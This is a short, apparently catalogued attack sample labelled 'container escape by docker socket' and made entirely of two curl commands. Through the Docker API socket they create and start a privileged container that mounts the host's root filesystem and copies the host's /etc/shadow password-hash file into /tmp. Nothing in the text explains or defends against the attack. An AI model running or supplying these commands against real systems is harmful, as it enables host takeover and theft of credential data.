# class: container escape by docker socket; style: curl
curl -s --unix-socket /var/run/docker.sock -H 'Content-Type: application/json' \
  -d '{"Image":"alpine","Cmd":["/bin/sh","-c","cp /h/etc/shadow /h/tmp/s"],"HostConfig":{"Binds":["/:/h"],"Privileged":true}}' \
  http://localhost/containers/create?name=p
curl -s --unix-socket /var/run/docker.sock -X POST http://localhost/containers/p/start
